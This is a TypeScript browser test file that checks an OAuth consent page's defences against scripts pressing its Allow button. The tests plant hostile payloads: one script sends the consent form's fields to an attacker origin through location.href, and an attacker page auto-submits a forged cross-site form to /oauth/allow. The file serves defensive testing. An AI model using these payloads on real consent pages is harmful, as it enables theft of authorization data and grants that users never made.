import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { DrivenBrowser, Tab } from '../browser/driven-browser.ts';
import { button } from '../browser/driven-browser.ts';
import { anAccount, anIntegration } from '../harness/fixtures.ts';
import type { ReceivedRequest } from '../harness/received-requests.ts';
import { receivedRequests } from '../harness/received-requests.ts';
import { attackerSite, clickAttempts } from './attacker.ts';
import { signInAt, until } from './hop-journeys.ts';
import type { InjectingProxy } from './injecting-proxy.ts';
import { anInjectingProxy } from './injecting-proxy.ts';
import type { BrowserFixture } from './browser-fixture.ts';
import { openFixtureBehind } from './browser-fixture.ts';

/**
 * Ways in which a script submits a confirmation page's form; a browser without `Sec-Fetch-User` can't tell them from a
 * person's press.
 */
const byForm = ['a click by script', 'a dispatched press', 'form.submit()', 'form.requestSubmit()'] as const;

/**
 * Registers the tests of confirmation pages for one browser.
 *
 * @param tellsPersons whether the browser sends `Sec-Fetch-User` with a person's press
 * @see SECURITY.md
 */
export function describeConfirmations(drive: () => Promise<DrivenBrowser>, tellsPersons: boolean): void {
  let stage: BrowserFixture & { readonly between: InjectingProxy };
  let browser: DrivenBrowser;
  let received: readonly ReceivedRequest[];
  beforeAll(async () => {
    stage = await openFixtureBehind(anInjectingProxy);
    received = receivedRequests(stage.platform);
    await anAccount(stage.platform, 'berth');
    await anAccount(stage.platform, 'north');
    browser = await drive();
    await signInAt({ stage, browser }, 'admin@north.test');
  }, 120_000);
  afterAll(async () => {
    await browser.close();
    await stage.close();
  });

  /** Runs a test on the consent page of a new integration. */
  async function asked(run: (tab: Tab, its: { readonly clientId: string; readonly page: string }) => Promise<void>) {
    const { client_id: clientId } = await anIntegration(stage.platform, 'berth', { redirectUri: `${stage.url}/help` });
    const tab = await browser.newTab();
    // The tab stays open: the response to its form may still be on its way.
    await run(tab, { clientId, page: `/oauth?client_id=${clientId}&state=s` });
  }

  /** Opens the page with a planted script, waits until the script has submitted the form, and returns the request. */
  async function pressedBy(script: string, tab: Tab, page: string): Promise<ReceivedRequest | undefined> {
    const before = received.length;
    stage.between.plant(page, script);
    await tab.open(stage.url + page);
    const made = () => received.slice(before).filter(({ url }) => url === '/oauth/allow');
    await until(() => Promise.resolve(expect(made()).toHaveLength(1)));
    return made()[0];
  }

  async function grantsOf(clientId: string): Promise<number> {
    const { db } = stage.platform.world;
    return (await db.selectFrom('grants').select('id').where('integration_id', '=', clientId).execute()).length;
  }

  const person = tellsPersons ? '?1' : undefined;

  describe('a person’s press', { timeout: 60_000 }, () => {
    test.each([
      ['by the mouse', (tab: Tab) => tab.click(button('Allow'))],
      ['by Enter', (tab: Tab) => tab.pressKey(button('Allow'), 'Enter')],
      ['by Space', (tab: Tab) => tab.pressKey(button('Allow'), 'Space')],
    ] as const)('a person’s press on Allow %s is sent with the headers of a person’s press', (_, press) =>
      asked(async (tab, { clientId, page }) => {
        await tab.open(stage.url + page);
        await press(tab);
        await until(async () => expect(await grantsOf(clientId)).toBe(1));
        await until(() => Promise.resolve(expect(received.at(-1)?.url).not.toBe('/oauth/allow')));
        const pressed = received.filter(({ url }) => url === '/oauth/allow').at(-1);
        expect(pressed).toEqual({
          method: 'POST',
          url: '/oauth/allow',
          status: 303,
          origin: stage.url,
          fetchUser: person,
          fetchMode: 'navigate',
          fetchSite: 'same-origin',
        });
      }),
    );
  });

  describe('a script’s press', { timeout: 60_000 }, () => {
    test('403 for Allow by a fetch of a script planted in the page', () =>
      asked(async (tab, { clientId, page }) => {
        const script = later(clickAttempts('button.js-accept')['a fetch of the same origin'] ?? '');
        const pressed = await pressedBy(script, tab, page);
        expect(pressed).toMatchObject({ status: 403, fetchMode: 'cors', fetchUser: undefined });
        expect(await grantsOf(clientId)).toBe(0);
      }));

    test('403 for Allow from another port of the same site, with the page’s real fields', () =>
      asked(async (tab, { clientId, page }) => {
        const { origin, server } = await attackerSite(
          `<form method="post" action="${stage.url}/oauth/allow"></form><script>
            new URLSearchParams(location.search).forEach(function (value, name) {
              var field = document.createElement('input');
              field.type = 'hidden'; field.name = name; field.value = value;
              document.forms[0].append(field);
            });
            document.forms[0].submit();</script>`,
          'localhost',
        );
        const form = `document.querySelector('button.js-accept').form`;
        const leak = later(`location.href = '${origin}/?' + new URLSearchParams(new FormData(${form}))`);
        const pressed = await pressedBy(leak, tab, page);
        expect(pressed).toMatchObject({ status: 403, origin, fetchSite: 'same-site' });
        expect(await grantsOf(clientId)).toBe(0);
        server.close();
      }));

    test('under the page’s Content-Security-Policy a planted script does not run', () =>
      asked(async (tab, { clientId, page }) => {
        stage.between.plant(
          page,
          `document.body.append('planted'); document.querySelector('button.js-accept').click()`,
          {
            keepPolicy: true,
          },
        );
        await tab.open(stage.url + page);
        await until(async () => expect(await tab.text()).toContain('Allow access'));
        expect(await tab.text()).not.toContain('planted');
        expect(await grantsOf(clientId)).toBe(0);
      }));

    if (tellsPersons) {
      test.each(byForm)('403 for Allow by %s of a script planted in the page', (way) =>
        asked(async (tab, { clientId, page }) => {
          const pressed = await pressedBy(later(clickAttempts('button.js-accept')[way] ?? ''), tab, page);
          expect(pressed).toMatchObject({ status: 403, fetchMode: 'navigate', fetchUser: undefined });
          expect(await grantsOf(clientId)).toBe(0);
        }),
      );
    }
  });

  if (tellsPersons) return;
  // The remaining risk in SECURITY.md: in a browser without `Sec-Fetch-User` only the Content-Security-Policy keeps
  // scripts off the page.
  describe('no Sec-Fetch-User', { timeout: 60_000 }, () => {
    test.each(byForm)(
      'without Sec-Fetch-User the server cannot tell %s by a planted script from a person’s press',
      (way) =>
        asked(async (tab, { clientId, page }) => {
          const pressed = await pressedBy(later(clickAttempts('button.js-accept')[way] ?? ''), tab, page);
          expect(pressed).toMatchObject({ status: 303, fetchMode: 'navigate', fetchUser: undefined });
          expect(await grantsOf(clientId)).toBe(1);
        }),
    );
  });
}

/** Delays a script until the server no longer refuses a press as too early. */
function later(script: string): string {
  return `setTimeout(function () { ${script} }, 1200)`;
}
